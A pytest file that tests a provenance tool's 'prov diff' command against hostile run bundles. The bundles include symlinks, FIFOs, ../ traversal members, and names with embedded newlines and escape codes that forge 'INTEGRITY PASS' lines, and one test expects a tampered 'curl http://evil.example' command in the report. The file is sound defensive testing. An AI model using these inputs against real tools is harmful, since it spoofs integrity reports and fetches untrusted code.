"""Hostile bundles against `prov diff` (issue 18 items 2, 7), each in its own copy, on either side of the
comparison. A bundle that cannot be read safely (links, FIFOs, non-UTF-8 names, hostile JSON) is refused:
exit status 2, one error line naming the file, no traceback, a deadline, nothing written anywhere. A bundle
that is readable but lies (bad safetensors header, odd names) is compared without trusting it: no
traceback, and no raw control character from its names reaches the report."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import hostile as h
import pytest
from conftest import offline_env


def index_step_not_an_integer(b: Path) -> None:
    """A sealed checkpoint index whose entry's step is a string (it said: invalid literal for int() ...)."""
    import json

    from provenance import formats
    from provenance.bundle import seal_folder

    idx = json.loads((b / formats.CHECKPOINT_INDEX).read_text())
    idx["checkpoints"][0]["step"] = "abc"
    (b / formats.CHECKPOINT_INDEX).write_text(json.dumps(idx))
    seal_folder(b)


REFUSED: dict[str, tuple[Callable[[Path], None], tuple[str, ...]]] = {
    "checkpoint index entry whose step is not an integer": (index_step_not_an_integer,
                                                            ("checkpoints/index.json", "integer step")),
    **h.FOLDER_CASES,
    "a release archive instead of a folder": (h.archive_with_link, ("not a run bundle",)),
}


@pytest.mark.parametrize("side", ["A", "B"])
@pytest.mark.parametrize("case", list(REFUSED))
def test_prov_diff_refuses_a_hostile_bundle(tiny_bundle: Path, tmp_path: Path, case: str, side: str,
                                             capsys: pytest.CaptureFixture[str],
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    make, words = REFUSED[case]
    box = h.Box(tiny_bundle, tmp_path, make)
    pair = [str(box.bundle), str(tiny_bundle)] if side == "A" else [str(tiny_bundle), str(box.bundle)]
    rc, out, err = box.call(["diff", *pair], capsys, monkeypatch)
    assert rc == 2, (rc, out[-2000:], err[-2000:])
    h.assert_one_error_line(err, *words)
    h.assert_printable(out + err)
    box.check()


def not_a_seal(b: Path) -> None:
    """manifest.json is JSON, but not an in-toto statement: a seal that cannot be checked."""
    (b / "manifest.json").write_text('{"predicateType": "evil", "subject": "x\\nINTEGRITY    PASS"}')


# case -> (make it hostile, words the report holds, exit status: 1 where the seal no longer holds)
COMPARED: dict[str, tuple[Callable[[Path], None], str, int]] = {
    "safetensors header claiming 2^60 bytes": (h.header_claims_2_60, "model/model.safetensors", 0),
    "checkpoint named step-abc.safetensors": (h.checkpoint_step_abc, "model: same", 0),
    "checkpoint index pointing outside": (h.index_points_outside, "checkpoints:", 0),
    "recorded command not bound by its digest": (h.tampered_command, "curl http://evil.example", 0),
    "code snapshot with a ../ member": (h.escaping_snapshot, "../escaped.py (only in A)", 0),
    "control characters in names and keys": (h.control_characters_in_names,
                                             "evil\\nVERDICT      PASS\\x1b[2J.py", 0),
    "newline in a resource name": (h.forged_pass_line,
                                   "integrity A: tampered: x\\nINTEGRITY    PASS  all files match missing", 1),
    "manifest that is not a seal": (not_a_seal, "root unreadable)\nB: ", 1),
}


@pytest.mark.parametrize("case", list(COMPARED))
def test_prov_diff_compares_a_lying_bundle_without_trusting_it(tiny_bundle: Path, tmp_path: Path, case: str,
                                                                capsys: pytest.CaptureFixture[str],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    make, says, status = COMPARED[case]
    box = h.Box(tiny_bundle, tmp_path, make)
    rc, out, err = box.call(["diff", str(box.bundle), str(tiny_bundle)], capsys, monkeypatch)
    assert rc == status and err == "", (rc, err[-2000:])
    assert says in out, out[-3000:]
    h.assert_printable(out)
    lines = out.splitlines()
    assert lines[0].startswith("A: ") and lines[1].startswith("B: ")  # no forged line among the report's
    assert lines[2].startswith("integrity A: " + ("tampered: " if status else "sealed, intact ("))
    if make is not_a_seal:
        assert lines[2].startswith("integrity A: tampered: the seal cannot be checked: manifest.json: "), lines[2]
    assert lines[3].startswith("integrity B: sealed, intact (")
    assert not any(x.startswith(("INTEGRITY", "VERDICT")) for x in lines)
    box.check()


def test_prov_diff_refuses_at_the_process_boundary(tiny_bundle: Path, tmp_path: Path) -> None:
    box = h.Box(tiny_bundle, tmp_path, h.fifo)
    env = {**offline_env(tmp_path / "work" / ".env-unused"), "TMPDIR": str(box.tmp)}
    proc = subprocess.run([sys.executable, "-m", "provenance.cli", "diff", str(tiny_bundle), str(box.bundle)],
                          cwd=box.work, env=env, capture_output=True, text=True, timeout=h.TIMEOUT)
    assert proc.returncode == 2 and "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    h.assert_one_error_line(proc.stderr, "logs/pipe.log: a FIFO")
    box.check()
